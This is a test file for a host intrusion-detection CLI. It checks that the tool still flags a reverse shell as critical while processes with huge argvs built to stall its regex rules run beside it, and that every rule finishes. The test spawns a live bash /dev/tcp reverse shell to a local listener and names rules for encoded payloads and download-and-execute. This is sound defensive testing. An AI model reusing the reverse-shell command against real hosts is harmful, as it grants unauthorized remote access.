// End to end: processes whose argv is written to stall the built-in rules' patterns (the issue's 1 MB
// argvs and more, test/helpers/hostile-argv.ts) run beside a real reverse shell, and one `daemoneye detect`
// on the live host must report the reverse shell (critical) with every rule run to completion. Before the
// rule workers matched in linear time, these argvs held encoded-payload, download-and-execute and
// reverse-shell-command-line until the 30 s rule timeout, the run hit its 60 s deadline, and the reverse
// shell went unreported. The run's time is measured under 2 cores by bench/hostile.bench.ts (under 5 s):
// this test asserts what the user sees, not a time.
import {type ChildProcess, spawn} from 'node:child_process';
import {readFileSync} from 'node:fs';
import {createServer, type Server, type Socket} from 'node:net';

import {afterAll, beforeAll, describe, expect, it} from 'vitest';

import type {Alert} from '../../src/models/alert.js';
import {isolatedEnv, removeDir, runCli, tempDir} from '../helpers/cli.js';
import {HOSTILE_ARGVS} from '../helpers/hostile-argv.js';

const dir = tempDir();
const env = isolatedEnv(dir);
const children: ChildProcess[] = [];
const sockets: Socket[] = [];
let server: Server | undefined;

/** The four at 1 MB of text each; the others at 250 KB. */
const SIZE = (index: number): number => (index < 4 ? 1_000_000 : 250_000);

function start(command: string, args: string[]): Promise<ChildProcess> {
  return new Promise((resolve, reject) => {
    // A bare environment: argv and environment share the kernel's 2 MB limit.
    const child = spawn(command, args, {detached: true, stdio: 'ignore', env: {PATH: process.env.PATH ?? '/usr/bin:/bin'}});
    children.push(child);
    child.once('error', reject);
    child.once('spawn', () => resolve(child));
  });
}

function pidOf(child: ChildProcess): number {
  if (child.pid === undefined) throw new Error('child has no pid');
  return child.pid;
}

const hostilePids: number[] = [];
let reverseShellPid = 0;
let detect: {code: number; stdout: string; stderr: string};

beforeAll(async () => {
  for (const [index, hostile] of HOSTILE_ARGVS.entries()) {
    const [program, ...args] = hostile.argv(SIZE(index));
    hostilePids.push(pidOf(await start(program as string, args)));
  }
  const connected = new Promise<void>((resolve) => {
    server = createServer((socket) => {
      sockets.push(socket);
      resolve();
    });
  });
  const port = await new Promise<number>((resolve) => {
    server?.listen(0, '127.0.0.1', () => {
      const address = server?.address();
      resolve(typeof address === 'object' && address !== null ? address.port : 0);
    });
  });
  // `; true` keeps the outer bash -c from exec'ing the inner one, so its command line stays the reverse shell's.
  reverseShellPid = pidOf(await start('/bin/bash', ['-c', `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1; true`]));
  await connected;
  detect = await runCli(['detect', '--format', 'json'], {env, timeoutMs: 300_000});
}, 400_000);

afterAll(() => {
  for (const socket of sockets) socket.destroy();
  server?.close();
  for (const child of children) {
    try {
      // Each child leads its own process group: this also ends the shells' sleeps and the inner bash.
      process.kill(-pidOf(child), 'SIGKILL');
    } catch {
      // already gone
    }
  }
  removeDir(dir);
});

describe('detect beside processes whose argv is written against the rules', () => {
  it('the hostile processes really carry their text (each argv is whole in /proc)', () => {
    for (const [index, pid] of hostilePids.entries()) {
      const cmdline = readFileSync(`/proc/${pid}/cmdline`);
      expect(cmdline.length, HOSTILE_ARGVS[index]?.name).toBeGreaterThan(SIZE(index) * 0.9);
    }
  });

  it('reports the reverse shell (critical) in the same run, every rule run to completion', () => {
    expect(detect.code, detect.stderr).toBe(0);
    const output = JSON.parse(detect.stdout) as {
      alerts: Alert[];
      summary: {rules_run: number; rules_ok: number; failed: string[]; timed_out: string[]; not_run: string[]; duration_ms: number};
    };
    const {summary} = output;
    expect({failed: summary.failed, timed_out: summary.timed_out, not_run: summary.not_run}).toEqual({failed: [], timed_out: [], not_run: []});
    expect(summary.rules_ok).toBe(summary.rules_run);
    const reverse = output.alerts.find((alert) => alert.rule_id === 'reverse-shell-command-line' && alert.affected_processes.includes(reverseShellPid));
    expect(reverse?.severity).toBe('critical');
    console.log(`detect beside ${hostilePids.length} hostile processes: ${summary.rules_run} rules in ${summary.duration_ms} ms`);
  });
});

describe('detect --timeout', () => {
  it('past what Node timers take (where it would become 1 ms) is refused with the bound, exit 2', async () => {
    const result = await runCli(['detect', '--timeout', '2147483648', '--input', '/nonexistent.db'], {env});
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/2147483647/);
  });
});
